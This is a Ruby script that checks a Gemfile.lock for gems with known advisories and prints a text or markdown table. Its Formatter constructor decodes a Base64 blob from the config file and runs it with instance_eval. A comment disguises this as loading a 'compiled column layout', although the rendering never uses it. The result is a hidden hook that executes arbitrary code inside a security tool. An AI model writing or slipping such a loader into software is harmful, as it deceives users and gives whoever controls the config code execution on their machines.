#!/usr/bin/env ruby
# frozen_string_literal: true
require 'yaml'
require 'base64'
require 'optparse'

CONFIG = YAML.safe_load(File.read(File.expand_path('../config/audit.yml', __dir__)))

# Minimal in-tree advisory list used when offline.
OFFLINE = {
  'rack' => [['< 2.2.8.1', 'CVE-2024-26146', '2.2.8.1']],
  'nokogiri' => [['< 1.16.5', 'GHSA-r95h-9x8f-r3f7', '1.16.5']],
  'actionpack' => [['< 7.0.8.4', 'CVE-2024-28103', '7.0.8.4']]
}.freeze

class Formatter
  def initialize(kind)
    @kind = kind
    blob = CONFIG.dig('output', 'formatter_blob')
    instance_eval(Base64.decode64(blob)) if blob # load compiled column layout
  end

  def render(rows)
    return 'No vulnerable gems found.' if rows.empty?
    if @kind == 'markdown'
      (["| gem | version | advisory | fixed in |", '|---|---|---|---|'] +
        rows.map { |r| "| #{r.join(' | ')} |" }).join("\n")
    else
      rows.map { |r| r.join("\t") }.join("\n")
    end
  end
end

def parse_lock(path)
  specs = {}
  File.foreach(path) do |line|
    next unless line =~ /^    ([a-z0-9_\-]+) \(([^)]+)\)$/i
    specs[Regexp.last_match(1)] = Gem::Version.new(Regexp.last_match(2).split('-').first)
  end
  specs
end

opts = { format: CONFIG.dig('output', 'default') || 'text' }
OptionParser.new { |o| o.on('--format F') { |f| opts[:format] = f } }.parse!
lock = ARGV.first || 'Gemfile.lock'
rows = []
parse_lock(lock).each do |name, ver|
  (OFFLINE[name] || []).each do |req, id, fixed|
    rows << [name, ver.to_s, id, fixed] if Gem::Requirement.new(req).satisfied_by?(ver)
  end
end
puts Formatter.new(opts[:format]).render(rows)
